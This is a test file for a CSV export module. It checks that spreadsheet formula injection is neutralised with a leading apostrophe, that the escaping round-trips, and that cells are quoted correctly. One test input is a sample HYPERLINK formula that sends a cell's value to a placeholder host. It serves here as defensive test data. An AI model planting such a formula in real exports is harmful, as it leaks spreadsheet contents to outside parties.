import { describe, expect, it } from 'vitest';
import { delimitedCell, formatDelimited, restoreSpreadsheetText, spreadsheetText } from './delimited.js';

describe('spreadsheetText: formula injection (OWASP)', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&A1,"clic")', `'=HYPERLINK("http://x.example/?"&A1,"clic")`],
    ['+33 6 12 34 56 78', `'+33 6 12 34 56 78`],
    ['-Oui, enfin… non.', `'-Oui, enfin… non.`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['\u0000=1', `'\u0000=1`],
  ])('a cell starting with a formula character is read as text: %j', (input, output) => {
    expect(spreadsheetText(input)).toBe(output);
  });

  it('keeps a plain number a number (a negative kappa read by R), but not a formula made of digits', () => {
    for (const n of ['-0.12', '+3', '-1', '0.5']) expect(spreadsheetText(n)).toBe(n);
    expect(spreadsheetText('-1+1')).toBe("'-1+1");
    expect(spreadsheetText('-0.12e3')).toBe("'-0.12e3");
  });

  it('gives back exactly what was written, apostrophes included', () => {
    for (const text of ['=1+1', "'=1+1", "''-x", "'déjà cité", '-0.12', "'", '', '@', "'-3"]) {
      expect(restoreSpreadsheetText(spreadsheetText(text))).toBe(text);
    }
    expect(spreadsheetText("'=1+1")).toBe("''=1+1");
  });

  it('leaves every other text exactly as it is', () => {
    for (const text of ['', 'Impuissance', ' =1+1', '« je ne sais plus »', "'déjà cité", '3', 'a=b', 'é=1']) {
      expect(spreadsheetText(text)).toBe(text);
    }
  });
});

describe('delimitedCell', () => {
  it('quotes a cell holding the delimiter, a quote, a line feed or a carriage return alone', () => {
    expect(delimitedCell('a,b', ',')).toBe('"a,b"');
    expect(delimitedCell('a;b', ',')).toBe('a;b');
    expect(delimitedCell('dit "non"', ',')).toBe('"dit ""non"""');
    expect(delimitedCell('a\nb', '\t')).toBe('"a\nb"');
    expect(delimitedCell('a\rb', ';')).toBe('"a\rb"');
    expect(delimitedCell('=1+1', ',')).toBe("'=1+1");
  });
});

describe('formatDelimited', () => {
  it('one row per line, a memo with a carriage return alone stays one row', () => {
    const text = formatDelimited(
      [
        ['code', 'memo'],
        ['Impuissance', 'ligne 1\rligne 2'],
      ],
      { delimiter: ';' },
    );
    expect(text).toBe('code;memo\nImpuissance;"ligne 1\rligne 2"\n');
  });

  it('for Excel: BOM and CRLF between rows, line feeds inside cells kept', () => {
    const text = formatDelimited([['a', 'b\nc'], ['-d', 'e']], { delimiter: ';', bom: true, lineEnd: '\r\n' });
    expect(text).toBe('\ufeffa;"b\nc"\r\n\'-d;e\r\n');
  });
});
